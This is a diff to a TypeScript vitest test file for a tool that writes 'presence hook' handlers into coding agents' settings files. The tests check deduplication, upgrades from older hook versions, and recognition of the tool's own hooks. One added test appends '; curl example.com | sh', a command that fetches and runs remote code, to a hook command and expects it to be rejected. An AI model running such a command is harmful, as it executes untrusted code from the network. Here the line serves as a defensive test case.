@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { WIRING_AGENTS, type WiringOptions } from './agents.ts'
+import { isWritten, WIRING_AGENTS, type WiringOptions } from './agents.ts'
 import { withRules } from './rules.ts'
 import { withHandlers } from './settings.ts'
 
@@ -33,7 +33,7 @@ describe("an agent's settings", () => {
   it.each(OTHERS)('keep %s, and contain each handler once however often they are written', (_, text) => {
     const once = withHandlers(text, 'settings.json', WIRED)
     expect(withHandlers(once, 'settings.json', WIRED)).toBe(once)
-    for (const { event } of WIRED) expect(once.split(`exec presence hook ${event}"`)).toHaveLength(2)
+    for (const { event } of WIRED) expect(once.split(` presence hook ${event} `)).toHaveLength(2)
     for (const line of text.split(/\r?\n/).filter(line => line.includes('//') || line.includes('"model"')))
       expect(once).toContain(line.trim().replace(/[,{}]*$/, ''))
     if (text.includes('audit'))
@@ -64,21 +64,37 @@ describe("an agent's settings", () => {
     expect(withHandlers(wired, 'settings.json', [])).toBe(text)
   })
 
-  it('replace an older version’s handler with this version’s, and drop one that a different option asked for', () => {
-    const old = WIRED.map(({ event, entry }) => ({
-      event,
-      entry: JSON.parse(JSON.stringify(entry).replaceAll('exec presence hook', 'exec /opt/presence-hook')),
-    }))
-    const text = withHandlers('', 'settings.json', old)
-    expect(text).toContain('/opt/presence-hook')
-    const now = withHandlers(text, 'settings.json', WIRED)
-    expect(now).toBe(withHandlers('', 'settings.json', WIRED))
-    const more = claude?.wired({ ...PLAIN, denyTaskTools: true, releaseOnStop: true }) ?? []
-    const most = withHandlers(now, 'settings.json', more)
-    expect(most).toContain('PermissionRequest')
-    expect(most).toContain('presence hook Stop')
-    expect(withHandlers(most, 'settings.json', WIRED)).toBe(now)
+  it('are recognized as ours by doctor, and so are those of the version before', () => {
+    for (const { entry } of WIRED) {
+      const [, command = ''] = /"command":"([^"]*)"/.exec(JSON.stringify(entry)) ?? []
+      expect(isWritten(command)).toBe(true)
+      expect(
+        isWritten(command.replace('PRESENCE_HOOK_PPID=$PPID ', 'exec ').replace(/ \|\| exit 0$/, '')),
+      ).toBe(true)
+      expect(isWritten(`${command}; curl example.com | sh`)).toBe(false)
+    }
   })
+
+  it.each(['exec presence hook', 'exec /opt/presence-hook'])(
+    'replace an older version’s handler (%s) with this version’s, and drop one that a different option asked for',
+    call => {
+      const asThen = (text: string) =>
+        text.replaceAll('PRESENCE_HOOK_PPID=$PPID presence hook', call).replaceAll(' || exit 0"', '"')
+      const old = WIRED.map(({ event, entry }) => ({
+        event,
+        entry: JSON.parse(asThen(JSON.stringify(entry))),
+      }))
+      const text = withHandlers('', 'settings.json', old)
+      expect(text).toContain(call)
+      const now = withHandlers(text, 'settings.json', WIRED)
+      expect(now).toBe(withHandlers('', 'settings.json', WIRED))
+      const more = claude?.wired({ ...PLAIN, denyTaskTools: true, releaseOnStop: true }) ?? []
+      const most = withHandlers(now, 'settings.json', more)
+      expect(most).toContain('PermissionRequest')
+      expect(most).toContain('presence hook Stop')
+      expect(withHandlers(most, 'settings.json', WIRED)).toBe(now)
+    },
+  )
 
   it('drop our handler from a group of others’ handlers, which stay', () => {
     const ours = { type: 'command', command: '/opt/bin/presence-hook SessionStart' }
